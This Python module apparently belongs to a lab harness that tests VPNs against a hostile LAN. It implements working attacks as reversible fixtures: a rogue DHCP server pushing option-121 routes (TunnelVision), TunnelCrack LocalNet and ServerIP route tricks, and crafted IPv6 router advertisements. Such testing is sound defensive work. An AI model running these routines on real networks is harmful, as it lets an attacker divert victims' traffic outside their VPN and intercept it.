"""What a hostile LAN does to a computer. Each is a context manager: on, then off again."""

import contextlib
import glob
import shutil
import socket
import struct
import subprocess
import time

import netlab


LAN_ROGUE = "192.168.1.3"
_ROUTES = ("192.0.2.0/24", "198.51.100.0/24", "0.0.0.0/1", "128.0.0.0/1")

# What a DHCP client's script does with what it was told: address, classless static routes (RFC 3442), name servers.
_DHCP_SCRIPT = """#!/bin/sh
echo "$1 $ip $mask $staticroutes"
[ "$1" = bound ] || exit 0
ip addr add "$ip/$mask" dev eth0
set -- $staticroutes
while [ $# -ge 2 ]; do ip route replace "$1" via "$2" dev eth0 onlink metric 1; shift 2; done
for server in $dns; do echo "nameserver $server"; done > /etc/resolv.conf
echo bound
"""


def installed(program, package):
    path = shutil.which(program, path="/usr/sbin:/usr/bin:/sbin:/bin")
    if path is None:
        raise netlab.Skip(f"{program} is missing; install it with: apt-get install {package}")
    return path


def libfaketime():
    found = glob.glob("/usr/lib/*/faketime/libfaketime.so.1")
    if not found:
        raise netlab.Skip("libfaketime is missing; install it with: apt-get install libfaketime")
    return found[0]


def after_sanitizer(library, program):
    """LD_PRELOAD for a program that may be built with sanitizers, whose library must come first."""
    linked = subprocess.run(["/usr/bin/ldd", program], capture_output=True, text=True, check=True).stdout
    return " ".join([line.split()[2] for line in linked.splitlines() if "libasan" in line] + [library])


@contextlib.contextmanager
def routes_kept(host):
    """What an attack adds to addresses and to the main table is gone afterwards."""
    def all_of(family):
        return set(host.ip(family, "route", "show", "table", "main").splitlines())

    def addresses():
        return {line.split()[3] for line in host.ip("-o", "addr", "show", "dev", "eth0").splitlines()}

    before, before6, had, names = all_of("-4"), all_of("-6"), addresses(), host.run(["cat", "/etc/resolv.conf"]).stdout
    try:
        yield
    finally:
        for address in addresses() - had:
            host.run(["/usr/sbin/ip", "addr", "del", address, "dev", "eth0"], check=False)
        for family, old in (("-4", before), ("-6", before6)):
            for route in all_of(family) - old:
                host.run(["/usr/sbin/ip", family, "route", "del", *route.replace("linkdown", "").split()], check=False)
        host.run(["sh", "-c", "cat > /etc/resolv.conf"], input=names)


def _dnsmasq(rogue, *words):
    return rogue.start([installed("dnsmasq", "dnsmasq-base"), "--no-daemon", "--conf-file=/dev/null", "--user=root", "--port=0", "--interface=eth0",
                        "--no-resolv", "--no-hosts", "--no-ping", f"--dhcp-leasefile={rogue.home}/leases", "--pid-file=", "--log-dhcp", *words])


@contextlib.contextmanager
def dhcp_option_121(machine):
    """TunnelVision (CVE-2024-3661): a DHCP server hands out routes that are more exact than any default route."""
    rogue, host = machine.rogue, machine.host
    busybox = installed("busybox", "busybox")
    script = host.home / "dhcp.sh"
    script.write_text(_DHCP_SCRIPT)
    script.chmod(0o755)
    routes = ",".join(f"{route},{LAN_ROGUE}" for route in _ROUTES)
    server = _dnsmasq(rogue, "--dhcp-range=192.168.1.100,192.168.1.150,255.255.255.0,10m", f"--dhcp-option=121,{routes}",
                      f"--dhcp-option=option:dns-server,{LAN_ROGUE}")
    server.wait_for_output("DHCP")
    with routes_kept(host):
        try:
            said = host.run([busybox, "udhcpc", "-f", "-q", "-n", "-t", "10", "-T", "1", "-i", "eth0", "-O", "staticroutes", "-s", str(script)], timeout=20)
            main = host.ip("route", "show", "table", "main")
            netlab.check(all(f"{route} via {LAN_ROGUE}" in main for route in _ROUTES), f"the client took no routes: {main}{said.stdout}{said.stderr}")
            yield
        finally:
            server.stop()


@contextlib.contextmanager
def a_lan_that_claims_public_ranges(machine):
    """TunnelCrack's LocalNet (CVE-2023-36672): the site's addresses are said to be on the link, where somebody answers for them."""
    claims = ("192.0.2.80/32", "192.0.2.53/32", "2001:db8:80::80/128")
    with routes_kept(machine.host), routes_kept(machine.rogue):
        for address in claims:
            machine.rogue.ip("addr", "add", address, "dev", "eth0", *(["nodad"] if ":" in address else []))
        for words in (["addr", "add", "192.0.2.7/24", "dev", "eth0"], ["-6", "addr", "add", "2001:db8:80::7/64", "dev", "eth0", "nodad"]):
            machine.host.ip(*words)
        yield


@contextlib.contextmanager
def the_entry_named_as_a_site(machine):
    """TunnelCrack's ServerIP (CVE-2023-36673): a name leads to the entry's address, which other VPNs exempt. The routes are such exemptions."""
    with routes_kept(machine.host):
        for relay in machine.world.relays:
            machine.host.ip("route", "replace", relay.host.ip4, "via", "192.168.1.1", "dev", "eth0", "onlink", "metric", "5")
        yield


def _advertisement(prefix, server):
    """RFC 4861 §4.2 with a prefix to live in, RFC 8106 with a name server; RFC 4191's high preference."""
    header = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0)
    network = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, prefix)
    names = struct.pack("!BBHI", 25, 3, 0, 3600) + socket.inet_pton(socket.AF_INET6, server)
    route = struct.pack("!BBBBI", 24, 2, 32, 0x08, 1800) + socket.inet_pton(socket.AF_INET6, "2001:db8::")[:8]
    return header + network + names + route


@contextlib.contextmanager
def router_advertisements(machine):
    """A new IPv6 router with a default route, a more exact one, a prefix of its own and a name server (as rdnssd would write it)."""
    rogue, host = machine.rogue, machine.host
    rogue.ip("-6", "addr", "replace", "fe80::66/64", "dev", "eth0", "nodad")
    rogue.run(["/usr/sbin/ip", "-6", "addr", "del", "fe80::2/64", "dev", "eth0"], check=False)  # the computer's own, in this lab
    for name, value in (("forwarding", "0"), ("accept_ra", "1"), ("autoconf", "1"), ("accept_ra_rt_info_max_plen", "64")):
        host.sysctl(f"net.ipv6.conf.eth0.{name}", value)
    with routes_kept(host):
        try:
            with rogue.inside(), socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
                index = socket.if_nametoindex("eth0")
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
                s.bind(("fe80::66", 0, 0, index))
                s.sendto(_advertisement("2001:db8:66::", "2001:db8:66::1"), ("ff02::1", 0, 0, index))
            deadline = time.monotonic() + 5
            while "fe80::66" not in (routes := host.ip("-6", "route")):
                netlab.check(time.monotonic() < deadline, f"the computer took no advertisement: {routes}")
                time.sleep(0.05)
            host.resolve_with("2001:db8:66::1")
            yield
        finally:
            host.sysctl("net.ipv6.conf.eth0.accept_ra", "0")


ATTACKS = [dhcp_option_121, a_lan_that_claims_public_ranges, the_entry_named_as_a_site, router_advertisements]
